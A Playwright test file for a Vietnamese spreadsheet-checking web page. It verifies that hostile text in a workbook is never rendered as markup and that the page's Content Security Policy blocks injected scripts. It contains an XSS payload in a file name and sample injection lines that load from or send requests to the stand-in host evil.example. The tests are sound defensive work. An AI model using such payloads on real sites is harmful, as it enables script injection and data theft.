import type { Frame, Page } from "playwright-core";
import { check } from "../../src/check";
import { wordFinding } from "../../src/locales/wordFinding";
import { readFile } from "../../src/xlsx/readFile";
import { hostileStrings, traces } from "../support/hostileStrings";
import { hostileWorkbook } from "../support/hostileWorkbook";
import type { PlaygroundPage } from "../support/playground";
import { playgroundSuite } from "../support/playgroundSuite";

// A browser and a build of the page may share two cores with other tests.
jest.setTimeout(120_000);

const openPlayground = playgroundSuite();
let open: PlaygroundPage;

const fileName = "<img data-hostile src=x onerror=window.hostile=1>.xlsx";

describe("five hundred hostile texts in every place of a workbook", () => {
  it("are shown as they stand in every view, and none becomes an element, a script, a formula or a request", async () => {
    const bytes = await hostileWorkbook();
    // A high pane lists many findings at a time.
    open = await openPlayground({ viewport: { width: 1366, height: 2400 } });
    const { page, pane } = open;
    await open.openFile(fileName, bytes);
    await pane.check();
    const frame = await pane.frame();
    const harmless = async (where: string) => {
      for (const document of [page, frame]) expect([where, await tracesIn(document)]).toEqual([where, []]);
    };

    // Findings, in every grouping and searched for.
    const found = (await pane.findings()).map(({ what }) => what);
    await harmless("the findings");
    const expected = await engineFindings(bytes);
    expect(found.toSorted()).toEqual(expected.toSorted());
    expect(hostileStrings.filter((text) => !found.some((what) => what.includes(shownAs(text))))).toEqual([]);
    for (const grouping of ["rule", "subject", "unit", "column"]) {
      await frame.getByRole("combobox", { name: "Xếp theo" }).selectOption(grouping);
      await frame.getByRole("listitem").first().waitFor();
      await harmless(`by ${grouping}`);
    }
    for (const text of hostileStrings.filter((_, index) => index % 50 === 0)) {
      await frame.getByRole("searchbox").fill(text);
      await harmless(`searching for ${text}`);
    }
    await frame.getByRole("searchbox").fill("");

    // One finding after the other with its row and its why.
    for (let step = 0; step < 12; step++) await page.keyboard.press("F8");
    await frame.locator("[data-item]").first().click();
    await frame.getByText("Vì sao?").first().click();
    await frame
      .getByText(/^Đạt khi/)
      .first()
      .waitFor();
    await harmless("a why");

    // What the columns mean, also of the sheet that is not understood.
    await pane.button(/^Xác nhận ý nghĩa/).click();
    await frame.getByRole("combobox").first().waitFor();
    await harmless("the meanings of columns");
    await pane.button("Quay lại").click();

    // The plan of the workbook's own sheet, the counts, the settings with a file of earlier years.
    await frame.getByRole("tab", { name: "Chỉ tiêu" }).click();
    await frame.getByText("không có trong lịch").first().waitFor();
    await harmless("the targets");
    await frame.getByRole("tab", { name: "Tổng hợp" }).click();
    await frame.getByRole("row").first().waitFor();
    await harmless("the summary");
    await pane.button("Cài đặt").click();
    await frame.locator("input[type=file]").setInputFiles({ name: fileName, mimeType: "", buffer: Buffer.from(bytes) });
    await frame.getByText(/đã đọc 4 trang/).waitFor();
    await harmless("the settings");
    await pane.button("Quay lại").click();

    // The sheets that are written, each looked at in the grid, and the saved file.
    await pane.write();
    for (const tab of await page.getByRole("tablist").getByRole("tab").all()) {
      await tab.click();
      await harmless(`the sheet ${await tab.textContent()}`);
    }
    const saved = await readFile("saved.xlsx", await open.save());
    if (saved.status !== "read") throw new Error(saved.reason);
    const before = await readFile("before.xlsx", bytes);
    if (before.status !== "read") throw new Error(before.reason);
    for (const { sheet, values } of before.grids)
      expect(saved.grids.find((grid) => grid.sheet === sheet)?.values).toEqual(values);
    expect(open.troubles).toEqual([]);
  });
});

/** The engine's messages about the file, as Node words them. */
async function engineFindings(bytes: Uint8Array): Promise<string[]> {
  const reading = await readFile(fileName, bytes);
  if (reading.status !== "read") throw new Error(reading.reason);
  return check(reading.grids).findings.map((finding) => spaced(wordFinding(finding, "vi").what));
}

const spaced = (text: string) => text.replace(/\s+/g, " ").trim();

/** The start of a text as the file can hold it and Excel reads it. */
function shownAs(text: string): string {
  const asXml = Buffer.from(text).toString();
  const asExcelReads = asXml.replace(/_x([0-9A-F]{4})_/g, (_, code: string) => String.fromCharCode(parseInt(code, 16)));
  return spaced(asExcelReads.normalize("NFC")).slice(0, 12);
}

/** What has been made of texts in a document: elements that we never make, attributes that run, a script that ran. */
function tracesIn(document: Page | Frame): Promise<string[]> {
  return document.evaluate((selector) => {
    const made = [...globalThis.document.querySelectorAll(selector)].map((element) => element.outerHTML.slice(0, 80));
    return "hostile" in globalThis ? [...made, "a script ran"] : made;
  }, traces);
}

describe("what the policy of the page stops, in the pane and in the page around it", () => {
  it.each([
    ["a script in the page", "script-src-elem", `append("script", { textContent: "window.hostile=1" })`],
    [
      "a handler in an attribute",
      "script-src-attr",
      `const p = append("p"); p.setAttribute("onclick", "window.hostile=1"); p.click()`,
    ],
    ["a link that runs", "script-src-elem", `append("a", { href: "javascript:void(window.hostile=1)" }).click()`],
    ["a script from elsewhere", "script-src-elem", `append("script", { src: "https://evil.example/a.js" })`],
    ["text that is run", "script-src", `setTimeout(() => new Function("window.hostile=1")(), 0)`],
    ["a picture from elsewhere", "img-src", `append("img", { src: "https://evil.example/a.png" })`],
    ["a frame from elsewhere", "frame-src", `append("iframe", { src: "https://evil.example/" })`],
    ["an object", "object-src", `append("object", { type: "text/html", data: "https://evil.example/" })`],
    ["a request", "connect-src", `fetch("https://evil.example/").catch(() => undefined)`],
    ["a beacon", "connect-src", `navigator.sendBeacon("https://evil.example/")`],
    // Of the page only: a frame whose form was stopped shows an error instead of its page.
    ["a form that is sent", "form-action", `append("form", { action: "https://evil.example/" }).submit()`],
    ["another base for links", "base-uri", `append("base", { href: "https://evil.example/" })`],
  ])("%s", async (_, directive, attempt) => {
    open = await openPlayground();
    for (const document of [open.page, await open.pane.frame()]) {
      if (directive === "form-action" && document !== open.page) continue;
      const stopped = await document.evaluate<string>(`new Promise((done) => {
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
        const append = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
        ${attempt};
      })`);
      expect(stopped).toBe(directive);
      expect(await document.evaluate(() => "hostile" in globalThis)).toBe(false);
    }
    expect(open.troubles.filter((trouble) => trouble.startsWith("request to"))).toEqual([]);
  });
});
